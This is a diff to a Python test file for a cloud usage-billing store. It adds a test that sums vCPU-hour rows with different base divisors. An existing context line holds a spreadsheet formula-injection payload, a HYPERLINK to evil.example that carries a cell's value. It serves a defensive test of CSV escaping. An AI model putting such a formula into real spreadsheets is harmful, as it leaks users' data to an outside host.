@@ -74,3 +74,28 @@ def test_text_cells_of_the_hourly_csv_never_start_a_formula(queries):
     assert '\'=HYPERLINK("https://evil.example/?x="&A1,"open")' in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
     assert "0.004000000000" in cells, "figures stay numbers"
+
+
+def test_a_resources_row_whose_base_units_differ_is_added_apart(tmp_path: Path):
+    """A 2-vCPU VM's hour is 2 vCPU-hours (7,200 vCPU-seconds / 3,600), at cust-00001's 0.0200:
+    0.04. A row of the same meter and unit counted in another base unit (divisor 1: 0.5 vCPU-hour,
+    0.01) is added after its own division: 2.5 vCPU-hours, 0.05. Added before it, the base units
+    would make 7,200.5 / 3,600 vCPU-hours."""
+    client = clickhouse_connect.get_client(dsn=f"chdb://{tmp_path / 'divisors'}")
+    migrate(client, DB)
+    samples = [vm_sample("vm-a", "cust-00001", HOUR + timedelta(minutes=5 * n), vcpu=2) for n in range(1, 13)]
+    UsageStore(client, DB).write(frame(samples), HOUR + timedelta(hours=1))
+    client.command(
+        f"INSERT INTO {DB}.usage_hours (customer_id, hour, resource_id, product, meter, dimension, unit, currency, "
+        "base_divisor, event_hour, base_sum, base_max, latest, amount, amount_base, rated_rows, stored_until) "
+        "SELECT 'cust-00001', {h:DateTime('UTC')}, 'vm-a', 'vm', 'vcpu_hours', '', 'vCPU-hour', 'EUR', 1, "
+        "{h:DateTime('UTC')}, 0.5, 0.5, ({h:DateTime64(3, 'UTC')}, 0.5), 0.01, 0.01, 1, now64(3)",
+        parameters={"h": HOUR},
+    )
+    usage = UsageQueries(ClientPool(lambda: client, 1), DB)
+    window = UsageWindow("cust-00001", HOUR, HOUR + timedelta(hours=1))
+    for group_by in (GroupBy.RESOURCE, GroupBy.METER):
+        rows = usage.usage(EVERYTHING, window, Granularity.HOUR, group_by).to_pylist()
+        vcpu = [(row["quantity"], row["amount"], row["rated_rows"]) for row in rows if row["meter"] == "vcpu_hours"]
+        assert vcpu == [(Decimal("2.5"), Decimal("0.05"), 13)], group_by
+    client.close()
